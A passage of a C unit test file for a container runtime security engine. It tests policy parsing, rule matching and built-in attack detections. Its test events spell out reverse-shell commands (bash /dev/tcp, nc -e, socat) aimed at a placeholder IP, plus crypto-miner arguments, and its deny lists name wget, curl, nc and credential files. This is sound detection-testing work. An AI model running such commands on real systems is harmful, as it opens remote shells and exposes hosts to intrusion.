/*
 * test_runtime: the runtime rule engine (defender/runtime.c): policy parsing and its refusals,
 * every section and effect, first match wins with collections, each built-in attack type, learned
 * models (learning, dry run, active, relearn, JSON), and a replay of the real recording in
 * tests/data/sensor through the replay sensor back end.
 */
#include <errno.h>
#include <limits.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "../../defender/runtime.h"
#include "../../defender/sensor.h"
#include "t.h"

#define SEC 1000000000ull
#define T0 (1795762600ull * SEC)
#define CID "af4f842fa86bf94841d5ec91a2e8e814f5802ada7ccaae0ef996b8be45f85689"

static struct runtime_policy *policy(const char *text)
{
	json_error_t je;
	json_t *j = json_loads(text, JSON_REJECT_DUPLICATES, &je);
	struct runtime_policy *p = NULL;
	char err[300];

	if (j == NULL) {
		fprintf(stderr, "  test policy is not JSON: %s\n", je.text);
		return NULL;
	}
	if (runtime_policy_from_json(j, &p, err, sizeof(err)) != 0)
		fprintf(stderr, "  policy refused: %s\n", err);
	json_decref(j);
	return p;
}

/* The error for a policy text, or "" when it parsed. */
static const char *policy_error(const char *text, char *err, size_t errlen)
{
	json_t *j = json_loads(text, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
	struct runtime_policy *p = NULL;

	err[0] = 0;
	if (j == NULL) {
		snprintf(err, errlen, "(test text is not JSON)");
		return err;
	}
	if (runtime_policy_from_json(j, &p, err, errlen) == 0) {
		err[0] = 0;
		runtime_policy_free(p);
	} else {
		T_CHECK(p == NULL);
		T_CHECK(err[0] != 0);
	}
	json_decref(j);
	return err;
}

static struct runtime_workload wl(const char *image)
{
	struct runtime_workload w = { 0 };

	w.subject.image = image;
	w.subject.container = "web";
	w.subject.host = "node1";
	w.subject.namespace_ = "prod";
	w.subject.cluster = "c1";
	return w;
}

static struct event ev_exec(uint64_t t, const char *path, ...)
{
	struct event ev = { 0 };
	va_list ap;
	const char *a;

	ev.type = EVENT_EXEC;
	ev.time_ns = t;
	snprintf(ev.container, sizeof(ev.container), CID);
	ev.container_known = 1;
	ev.pid = ev.tgid = 100;
	snprintf(ev.exec.filename, sizeof(ev.exec.filename), "%s", path);
	snprintf(ev.comm, sizeof(ev.comm), "%.15s", strrchr(path, '/') ? strrchr(path, '/') + 1 : path);
	ev.exec.exe_ctime = 1000;
	va_start(ap, path);
	while ((a = va_arg(ap, const char *)) != NULL) {
		size_t n = strlen(a) + 1;
		if (ev.exec.args_len + n > EVENT_ARGS_MAX)
			break;
		memcpy(ev.exec.args + ev.exec.args_len, a, n);
		ev.exec.args_len += n;
	}
	va_end(ap);
	return ev;
}

static struct event ev_net(uint64_t t, enum event_type type, int proto, const char *ip, int port)
{
	struct event ev = { 0 };

	ev.type = type;
	ev.time_ns = t;
	snprintf(ev.container, sizeof(ev.container), CID);
	snprintf(ev.comm, sizeof(ev.comm), "app");
	ev.net.proto = (uint8_t)proto;
	ev.net.port = (uint16_t)port;
	if (inet_pton(AF_INET, ip, ev.net.addr) == 1)
		ev.net.family = AF_INET;
	else if (inet_pton(AF_INET6, ip, ev.net.addr) == 1)
		ev.net.family = AF_INET6;
	return ev;
}

static struct event ev_dns(uint64_t t, const char *name)
{
	struct event ev = { 0 };

	ev.type = EVENT_DNS;
	ev.time_ns = t;
	snprintf(ev.container, sizeof(ev.container), CID);
	snprintf(ev.comm, sizeof(ev.comm), "app");
	ev.dns.family = AF_INET;
	ev.dns.port = 53;
	ev.dns.qtype = 1;
	snprintf(ev.dns.qname, sizeof(ev.dns.qname), "%s", name);
	return ev;
}

static struct event ev_file(uint64_t t, enum event_file_op op, const char *path, const char *path2)
{
	struct event ev = { 0 };

	ev.type = EVENT_FILE;
	ev.time_ns = t;
	snprintf(ev.container, sizeof(ev.container), CID);
	snprintf(ev.comm, sizeof(ev.comm), "app");
	ev.file.op = op;
	ev.file.result = 3;
	snprintf(ev.file.path, sizeof(ev.file.path), "%s", path);
	snprintf(ev.file.path2, sizeof(ev.file.path2), "%s", path2 ? path2 : "");
	return ev;
}

/* Evaluates and returns the attack type ("" when allowed); effect in *eff when not NULL. */
static const char *eval(const struct runtime_policy *p, struct runtime_models *m, const struct event *ev,
			const struct runtime_workload *w, struct runtime_decision *d)
{
	int r = runtime_evaluate(p, m, ev, w, d);

	T_CHECK(r == 0 || r == 1);
	if (r == 1) {
		T_CHECK(d->effect >= RUNTIME_EFFECT_ALERT);
		T_CHECK(d->msg[0] != 0);
		T_CHECK(d->severity[0] != 0);
		return d->attack_type;
	}
	T_CHECK_INT(d->effect, RUNTIME_EFFECT_NONE);
	return "";
}

/* ---- parsing ---- */

T_TEST(policy_malformed)
{
	static const struct {
		const char *text, *want;
	} cases[] = {
		{ "{\"rules\":[{\"name\":\"a\",\"bogus\":1}]}", "rules[0]: unknown member \"bogus\"" },
		{ "{\"rules\":[{}]}", "rules[0].name" },
		{ "{\"rules\":[{\"name\":\"\"}]}", "rules[0].name" },
		{ "{\"rules\":[{\"name\":\"a\"},{\"name\":\"a\"}]}", "rules[1].name" },
		{ "{\"rules\":[{\"name\":\"a\",\"processes\":{\"defaultEffect\":\"kill\"}}]}",
		  "rules[0].processes.defaultEffect: \"kill\" is not an effect" },
		{ "{\"rules\":[{\"name\":\"a\",\"processes\":{\"deniedList\":{\"paths\":\"x\"}}}]}",
		  "rules[0].processes.deniedList.paths: not an array" },
		{ "{\"rules\":[{\"name\":\"a\",\"processes\":{\"deniedList\":{\"paths\":[\"\"]}}}]}",
		  "rules[0].processes.deniedList.paths[0]" },
		{ "{\"rules\":[{\"name\":\"a\",\"network\":{\"deniedIPs\":[\"10.0.0.0/33\"]}}]}",
		  "rules[0].network.deniedIPs[0]: not an IP address or CIDR" },
		{ "{\"rules\":[{\"name\":\"a\",\"network\":{\"allowedIPs\":[\"example.com\"]}}]}",
		  "rules[0].network.allowedIPs[0]" },
		{ "{\"rules\":[{\"name\":\"a\",\"network\":{\"listeningPorts\":{\"denied\":[{\"start\":0}]}}}]}",
		  "rules[0].network.listeningPorts.denied[0]: ports must be 1..65535" },
		{ "{\"rules\":[{\"name\":\"a\",\"network\":{\"outboundPorts\":{\"allowed\":[{\"start\":90,\"end\":80}]}}}]}",
		  "rules[0].network.outboundPorts.allowed[0]: ports must be" },
		{ "{\"rules\":[{\"name\":\"a\",\"network\":{\"outboundPorts\":{\"allowed\":[{\"start\":\"80\"}]}}}]}",
		  "start (and end) must be integers" },
		{ "{\"rules\":[{\"name\":\"a\",\"dns\":{\"domainList\":{\"denied\":[1]}}}]}",
		  "rules[0].dns.domainList.denied[0]" },
		{ "{\"rules\":[{\"name\":\"a\",\"filesystem\":{\"disabled\":\"yes\"}}]}",
		  "rules[0].filesystem.disabled: not a boolean" },
		{ "{\"rules\":[{\"name\":\"a\",\"collections\":[{\"name\":\"c\",\"images\":[\"ng*nx\"]}]}]}",
		  "rules[0].collections[0]: images[0]" },
		{ "{\"rules\":[{\"name\":\"a\",\"collections\":{}}]}", "rules[0].collections: not an array" },
		{ "{\"rules\":{}}", "policy.rules: not an array" },
		{ "{\"rule\":[]}", "policy: unknown member \"rule\"" },
		{ "{\"learningDisabled\":1}", "policy.learningDisabled: not a boolean" },
		{ "[1]", "rules[0]: not an object" },
		{ "\"x\"", "policy: not an object" },
	};
	char err[300];

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		policy_error(cases[i].text, err, sizeof(err));
		if (strstr(err, cases[i].want) == NULL) {
			fprintf(stderr, "  case %zu: got \"%s\", want \"%s\"\n", i, err, cases[i].want);
			t_failed_checks++;
		}
	}
	/* Too many entries in a list. */
	json_t *paths = json_array();
	for (int i = 0; i <= RUNTIME_LIST_MAX; i++)
		json_array_append_new(paths, json_string("x"));
	json_t *j = json_pack("{s:[{s:s,s:{s:{s:o}}}]}", "rules", "name", "a", "processes", "deniedList",
			      "paths", paths);
	struct runtime_policy *p = NULL;
	T_CHECK_INT(runtime_policy_from_json(j, &p, err, sizeof(err)), -EINVAL);
	T_CHECK(strstr(err, "more than 4096 entries") != NULL);
	json_decref(j);
	T_CHECK_INT(runtime_policy_from_json(NULL, &p, NULL, 0), -EINVAL);

	/* Valid: empty, a bare array, Prisma's full member set. */
	policy_error("{}", err, sizeof(err));
	T_CHECK_STR(err, "");
	p = policy("[{\"name\":\"a\"},{\"name\":\"b\",\"disabled\":true}]");
	T_CHECK(p != NULL);
	T_CHECK_INT(runtime_policy_rules(p), 2);
	runtime_policy_free(p);
	p = policy("{\"_id\":\"containerRuntime\",\"learningDisabled\":false,\"rules\":[{\"name\":\"Default\","
		   "\"owner\":\"system\",\"modified\":\"2024-01-01T00:00:00Z\",\"notes\":\"\",\"previousName\":\"\","
		   "\"advancedProtectionEffect\":\"alert\",\"cloudMetadataEnforcementEffect\":\"alert\","
		   "\"kubernetesEnforcementEffect\":\"alert\",\"wildFireAnalysis\":\"disable\",\"customRules\":[],"
		   "\"skipExecSessions\":false,\"collections\":[{\"name\":\"All\",\"containers\":[\"*\"],"
		   "\"images\":[\"*\"],\"hosts\":[\"*\"],\"labels\":[\"*\"],\"namespaces\":[\"*\"],\"clusters\":[\"*\"],"
		   "\"appIDs\":[\"*\"],\"accountIDs\":[\"*\"]}],"
		   "\"processes\":{\"defaultEffect\":\"alert\",\"allowedList\":[],\"deniedList\":{\"effect\":\"alert\",\"paths\":[]},"
		   "\"checkParentChild\":true,\"cryptoMinersEffect\":\"prevent\",\"lateralMovementEffect\":\"alert\","
		   "\"modifiedProcessEffect\":\"alert\",\"reverseShellEffect\":\"alert\",\"suidBinariesEffect\":\"alert\",\"disabled\":false},"
		   "\"network\":{\"defaultEffect\":\"alert\",\"allowedIPs\":[],\"deniedIPs\":[],\"deniedIPsEffect\":\"alert\","
		   "\"listeningPorts\":{\"allowed\":[],\"denied\":[],\"effect\":\"alert\"},\"outboundPorts\":{\"allowed\":[],"
		   "\"denied\":[{\"start\":25,\"end\":0,\"deny\":true}],\"effect\":\"alert\"},\"modifiedProcEffect\":\"alert\","
		   "\"portScanEffect\":\"alert\",\"rawSocketsEffect\":\"alert\",\"disabled\":false},"
		   "\"dns\":{\"defaultEffect\":\"alert\",\"disabled\":false,\"domainList\":{\"allowed\":[],\"denied\":[],\"effect\":\"alert\"}},"
		   "\"filesystem\":{\"defaultEffect\":\"alert\",\"allowedList\":[],\"deniedList\":{\"effect\":\"alert\",\"paths\":[]},"
		   "\"backdoorFilesEffect\":\"alert\",\"encryptedBinariesEffect\":\"alert\",\"newFilesEffect\":\"alert\","
		   "\"suspiciousELFHeadersEffect\":\"alert\",\"disabled\":false}}]}");
	T_CHECK(p != NULL);
	T_CHECK_INT(runtime_policy_rules(p), 1);
	runtime_policy_free(p);
	runtime_policy_free(NULL);
	T_CHECK_STR(runtime_effect_name(RUNTIME_EFFECT_BLOCK), "block");
	T_CHECK_STR(runtime_effect_name(RUNTIME_EFFECT_NONE), "");
}

/* ---- rule selection ---- */

T_TEST(first_match_wins)
{
	struct runtime_policy *p = policy(
		"{\"rules\":["
		"{\"name\":\"off\",\"disabled\":true,\"processes\":{\"deniedList\":{\"paths\":[\"*\"]}}},"
		"{\"name\":\"nginx\",\"collections\":[{\"name\":\"web\",\"images\":[\"nginx*\"]},"
		"{\"name\":\"ns\",\"namespaces\":[\"payments\"]}],"
		"\"processes\":{\"deniedList\":{\"effect\":\"prevent\",\"paths\":[\"cat\"]}}},"
		"{\"name\":\"all\",\"processes\":{\"deniedList\":{\"effect\":\"block\",\"paths\":[\"/bin/ls\"]}}}]}");
	struct runtime_workload nginx = wl("nginx:1.25"), redis = wl("redis:7"), pay = wl("redis:7");
	struct runtime_decision d;
	struct event cat = ev_exec(T0, "/bin/cat", "cat", "/etc/passwd", NULL),
		     ls = ev_exec(T0, "/bin/ls", "ls", NULL);

	T_CHECK(p != NULL);
	if (p == NULL)
		return;
	pay.subject.namespace_ = "payments";
	T_CHECK_STR(eval(p, NULL, &cat, &nginx, &d), "explicitlyDeniedProcess");
	T_CHECK_STR(d.rule, "nginx");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
	T_CHECK_STR(d.type, "processes");
	/* nginx's rule applies, and only it: ls is not denied there. */
	T_CHECK_STR(eval(p, NULL, &ls, &nginx, &d), "");
	T_CHECK_STR(d.rule, "nginx");
	T_CHECK_STR(eval(p, NULL, &ls, &redis, &d), "explicitlyDeniedProcess");
	T_CHECK_STR(d.rule, "all");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_BLOCK);
	T_CHECK_STR(eval(p, NULL, &cat, &redis, &d), "");
	/* Several collections are a union. */
	T_CHECK_STR(eval(p, NULL, &cat, &pay, &d), "explicitlyDeniedProcess");
	T_CHECK_STR(d.rule, "nginx");
	runtime_policy_free(p);

	/* No rule matches: nothing applies. */
	p = policy("{\"rules\":[{\"name\":\"only\",\"collections\":[{\"name\":\"x\",\"images\":[\"mysql*\"]}],"
		   "\"processes\":{\"deniedList\":{\"paths\":[\"*\"]}}}]}");
	T_CHECK_STR(eval(p, NULL, &cat, &redis, &d), "");
	T_CHECK_STR(d.rule, "");
	T_CHECK_INT(runtime_evaluate(NULL, NULL, &cat, &redis, &d), -EINVAL);
	runtime_policy_free(p);
}

/* ---- sections ---- */

T_TEST(processes_section)
{
	struct runtime_policy *p = policy(
		"[{\"name\":\"r\",\"processes\":{\"allowedList\":[\"xmrig\",\"/opt/*\"],"
		"\"deniedList\":{\"effect\":\"alert\",\"paths\":[\"/usr/bin/wget\",\"curl\",\"/opt/bad\"]}}}]");
	struct runtime_workload w = wl("app:1");
	struct runtime_decision d;
	struct event e;

	e = ev_exec(T0, "/usr/bin/wget", "wget", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedProcess");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_ALERT);
	T_CHECK_STR(d.severity, "medium");
	T_CHECK(strstr(d.msg, "/usr/bin/wget") != NULL);
	e = ev_exec(T0, "/usr/local/bin/curl", "curl", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedProcess");
	/* Busybox's shell runs applets as /proc/self/exe with the applet in argv[0]; fexecve runs a
	 * descriptor: a name in the deny list matches argv[0] there, and only there. */
	e = ev_exec(T0, "/proc/self/exe", "curl", "-s", "http://x", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedProcess");
	T_CHECK(strstr(d.msg, "/proc/self/exe (curl)") != NULL);
	e = ev_exec(T0, "/proc/4242/exe", "/usr/bin/curl", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedProcess");
	e = ev_exec(T0, "/dev/fd/3", "curl", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedProcess");
	e = ev_exec(T0, "/proc/self/exe", "ls", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	e = ev_exec(T0, "/bin/ls", "curl", NULL); /* an ordinary path: argv[0] is not the program */
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	e = ev_exec(T0, "/proc/12x/exe", "curl", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	e = ev_exec(T0, "/proc/self/exe", NULL); /* no argv */
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	/* Denied before allowed. */
	e = ev_exec(T0, "/opt/bad", "bad", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedProcess");
	/* Allowed exempts from the built-in detections. */
	e = ev_exec(T0, "/usr/bin/xmrig", "xmrig", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	e = ev_exec(T0, "/opt/tool", "tool", "stratum+tcp://pool", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	/* runc's own exec and exits are never judged. */
	e = ev_exec(T0, "/usr/bin/wget", "wget", NULL);
	e.exec.runtime_setup = 1;
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	runtime_policy_free(p);

	/* Each effect, and disable turning the check off; a disabled section decides nothing. */
	static const char *const effects[] = { "alert", "prevent", "block", "disable" };
	static const enum runtime_effect want[] = { RUNTIME_EFFECT_ALERT, RUNTIME_EFFECT_PREVENT,
		RUNTIME_EFFECT_BLOCK, RUNTIME_EFFECT_NONE };
	for (int i = 0; i < 4; i++) {
		char text[300];
		snprintf(text, sizeof(text),
			 "[{\"name\":\"r\",\"processes\":{\"deniedList\":{\"effect\":\"%s\",\"paths\":[\"nc\"]}}}]",
			 effects[i]);
		p = policy(text);
		e = ev_exec(T0, "/bin/nc", "nc", NULL);
		T_CHECK_INT(runtime_evaluate(p, NULL, &e, &w, &d), want[i] != RUNTIME_EFFECT_NONE);
		T_CHECK_INT(d.effect, want[i]);
		runtime_policy_free(p);
	}
	p = policy("[{\"name\":\"r\",\"processes\":{\"disabled\":true,\"deniedList\":{\"paths\":[\"nc\"]}}}]");
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	runtime_policy_free(p);
}

T_TEST(network_section)
{
	struct runtime_policy *p = policy(
		"[{\"name\":\"net\",\"cloudMetadataEnforcementEffect\":\"block\",\"network\":{"
		"\"deniedIPs\":[\"10.0.0.0/8\",\"2001:db8::/32\",\"192.0.2.7\"],\"deniedIPsEffect\":\"prevent\","
		"\"allowedIPs\":[\"10.1.2.3\"],"
		"\"listeningPorts\":{\"denied\":[{\"start\":2000,\"end\":2999}],\"allowed\":[{\"start\":80}],\"effect\":\"block\"},"
		"\"outboundPorts\":{\"denied\":[{\"start\":25}],\"allowed\":[{\"start\":443}],\"effect\":\"alert\"}}}]");
	struct runtime_workload w = wl("app:1");
	struct runtime_decision d;
	struct event e;

	T_CHECK(p != NULL);
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_TCP, "10.9.8.7", 8080);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedIP");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
	T_CHECK_STR(d.type, "network");
	T_CHECK(strstr(d.msg, "10.9.8.7") != NULL);
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_TCP, "11.0.0.1", 8080);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_TCP, "2001:db8:1::5", 80);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedIP");
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_TCP, "2001:db9::5", 80);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_UDP, "192.0.2.7", 53);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedIP");
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_UDP, "192.0.2.8", 53);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	/* Cloud metadata, v4 and v6, with its own effect. */
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_TCP, "169.254.169.254", 80);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "cloudMetadataProbing");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_BLOCK);
	T_CHECK_STR(d.severity, "high");
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_TCP, "fd00:ec2::254", 80);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "cloudMetadataProbing");
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_TCP, "169.254.169.253", 80);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	/* Outbound ports. */
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_TCP, "198.51.100.1", 25);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedOutboundPort");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_ALERT);
	/* Listening ports: a range, both ends; bind of a UDP socket too. */
	e = ev_net(T0, EVENT_LISTEN, IPPROTO_TCP, "0.0.0.0", 2000);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedListeningPort");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_BLOCK);
	e = ev_net(T0, EVENT_LISTEN, IPPROTO_TCP, "::", 2999);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedListeningPort");
	e = ev_net(T0, EVENT_BIND, IPPROTO_UDP, "0.0.0.0", 2500);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedListeningPort");
	e = ev_net(T0, EVENT_LISTEN, IPPROTO_TCP, "0.0.0.0", 3000);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	runtime_policy_free(p);

	/* Defaults: an effect left out alerts. */
	p = policy("[{\"name\":\"d\",\"network\":{\"deniedIPs\":[\"203.0.113.0/24\"]}}]");
	e = ev_net(T0, EVENT_CONNECT, IPPROTO_TCP, "203.0.113.9", 80);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedIP");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_ALERT);
	runtime_policy_free(p);
	p = policy("[{\"name\":\"d\",\"network\":{\"disabled\":true,\"deniedIPs\":[\"203.0.113.0/24\"]}}]");
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	runtime_policy_free(p);
}

T_TEST(dns_section)
{
	struct runtime_policy *p = policy(
		"[{\"name\":\"dns\",\"cloudMetadataEnforcementEffect\":\"prevent\",\"dns\":{\"domainList\":{"
		"\"denied\":[\"*.evil.com\",\"pool.minexmr.com\"],\"allowed\":[\"ok.evil.com\"],\"effect\":\"prevent\"}}}]");
	struct runtime_workload w = wl("app:1");
	struct runtime_decision d;
	struct event e;

	e = ev_dns(T0, "a.b.EVIL.com");
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedDNS");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
	e = ev_dns(T0, "evil.com.");
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedDNS");
	e = ev_dns(T0, "pool.minexmr.com");
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedDNS");
	e = ev_dns(T0, "notevil.com");
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	e = ev_dns(T0, "metadata.google.internal");
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "cloudMetadataProbing");
	/* An unparsed query (qname "") decides nothing. */
	e = ev_dns(T0, "");
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	runtime_policy_free(p);
}

T_TEST(filesystem_section)
{
	struct runtime_policy *p = policy(
		"[{\"name\":\"fs\",\"filesystem\":{\"deniedList\":{\"effect\":\"block\",\"paths\":[\"/etc/\",\"*.ssh/authorized_keys\"]},"
		"\"allowedList\":[\"/etc/nginx\"]}}]");
	struct runtime_workload w = wl("app:1");
	struct runtime_decision d;
	struct event e;

	e = ev_file(T0, EVENT_FILE_OPEN, "/etc/passwd", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedFile");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_BLOCK);
	T_CHECK_STR(d.type, "filesystem");
	e = ev_file(T0, EVENT_FILE_OPEN, "/etc", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedFile");
	e = ev_file(T0, EVENT_FILE_OPEN, "/etcetera/x", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	e = ev_file(T0, EVENT_FILE_RENAME, "/tmp/x", "/root/.ssh/authorized_keys");
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedFile");
	T_CHECK(strstr(d.msg, "rename") != NULL);
	e = ev_file(T0, EVENT_FILE_UNLINK, "/etc/shadow", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedFile");
	/* Denied wins over allowed; a failed call is not a write. */
	e = ev_file(T0, EVENT_FILE_OPEN, "/etc/nginx/nginx.conf", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "explicitlyDeniedFile");
	e = ev_file(T0, EVENT_FILE_CHMOD, "/etc/passwd", NULL);
	e.file.result = -1;
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	runtime_policy_free(p);
}

/* ---- built-in detections ---- */

T_TEST(builtin_attacks)
{
	struct runtime_policy *p = policy(
		"[{\"name\":\"b\",\"kubernetesEnforcementEffect\":\"prevent\",\"processes\":{"
		"\"cryptoMinersEffect\":\"block\",\"reverseShellEffect\":\"prevent\",\"modifiedProcessEffect\":\"alert\"}}]");
	struct runtime_workload w = wl("app:1");
	struct runtime_decision d;
	struct event e;

	/* Crypto miners: by name, by arguments. */
	e = ev_exec(T0, "/usr/local/bin/xmrig", "xmrig", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "cryptoMinerProcess");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_BLOCK);
	T_CHECK_STR(d.severity, "high");
	e = ev_exec(T0, "/tmp/.x/systemd-helper", "helper", "-o", "stratum+tcp://pool.example:3333", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "cryptoMinerProcess");
	e = ev_exec(T0, "/app/run", "run", "--donate-level=1", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "cryptoMinerProcess");
	/* Reverse shells from the command line. */
	e = ev_exec(T0, "/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "reverseShell");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
	e = ev_exec(T0, "/bin/nc", "nc", "198.51.100.1", "4444", "-e", "/bin/sh", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "reverseShell");
	e = ev_exec(T0, "/usr/bin/socat", "socat", "tcp:198.51.100.1:4444", "exec:/bin/sh", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "reverseShell");
	e = ev_exec(T0, "/bin/nc", "nc", "-l", "-p", "80", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	/* Reverse shells from the descriptors the sensor read at exec: a shell whose stdin or stdout
	 * is a connected inet socket, whatever wired it up (here python's dup2; no telltale argv). */
	{
		struct event_stdio sock4 = { .mode = 0140000, .family = AF_INET, .state = 1, .port = 4444 };
		struct event_stdio sock6 = { .mode = 0140000, .family = AF_INET6, .state = 1, .port = 443 };
		struct event_stdio unixs = { .mode = 0140000, .family = AF_UNIX };
		struct event_stdio listen4 = { .mode = 0140000, .family = AF_INET, .state = 10 };
		struct event_stdio pipe = { .mode = 0010000 }, tty = { .mode = 0020000 };

		inet_pton(AF_INET, "198.51.100.1", sock4.addr);
		inet_pton(AF_INET6, "2001:db8::1", sock6.addr);
		e = ev_exec(T0, "/bin/sh", "/bin/sh", "-i", NULL);
		e.exec.stdio[0] = sock4;
		e.exec.stdio[1] = sock4;
		e.exec.stdio[2] = sock4;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "reverseShell");
		T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
		T_CHECK_STR(d.severity, "high");
		T_CHECK(strstr(d.msg, "stdin is a connection to 198.51.100.1:4444") != NULL);
		/* stdout alone, IPv6, bash. */
		e = ev_exec(T0, "/usr/bin/bash", "bash", NULL);
		e.exec.stdio[0] = pipe;
		e.exec.stdio[1] = sock6;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "reverseShell");
		T_CHECK(strstr(d.msg, "stdout is a connection to [2001:db8::1]:443") != NULL);
		/* busybox run as a shell: by argv[0], or "busybox sh". */
		e = ev_exec(T0, "/bin/busybox", "sh", NULL);
		e.exec.stdio[0] = sock4;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "reverseShell");
		e = ev_exec(T0, "/bin/busybox", "busybox", "ash", "-i", NULL);
		e.exec.stdio[0] = sock4;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "reverseShell");
		/* Not reverse shells: another busybox applet or program on a socket (inetd-style
		 * servers, nc -e /bin/cat), stderr alone, unix sockets (systemd, docker attach), a
		 * listening socket, pipes and terminals. */
		e = ev_exec(T0, "/bin/busybox", "cat", NULL);
		e.exec.stdio[0] = sock4;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
		e = ev_exec(T0, "/usr/sbin/in.tftpd", "in.tftpd", NULL);
		e.exec.stdio[0] = sock4;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
		e = ev_exec(T0, "/bin/sh", "sh", "-c", "ls", NULL);
		e.exec.stdio[0] = pipe;
		e.exec.stdio[1] = pipe;
		e.exec.stdio[2] = sock4;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
		e.exec.stdio[0] = unixs;
		e.exec.stdio[1] = unixs;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
		e.exec.stdio[0] = listen4;
		e.exec.stdio[1] = tty;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
		/* Hostile: a family that is not inet with a TCP state set; argv without a NUL. */
		e.exec.stdio[0] = (struct event_stdio){ .mode = 0140000, .family = 16, .state = 1 };
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
		e = ev_exec(T0, "/bin/busybox", NULL);
		memset(e.exec.args, 's', sizeof(e.exec.args));
		e.exec.args_len = sizeof(e.exec.args) + 100;
		e.exec.stdio[0] = sock4;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
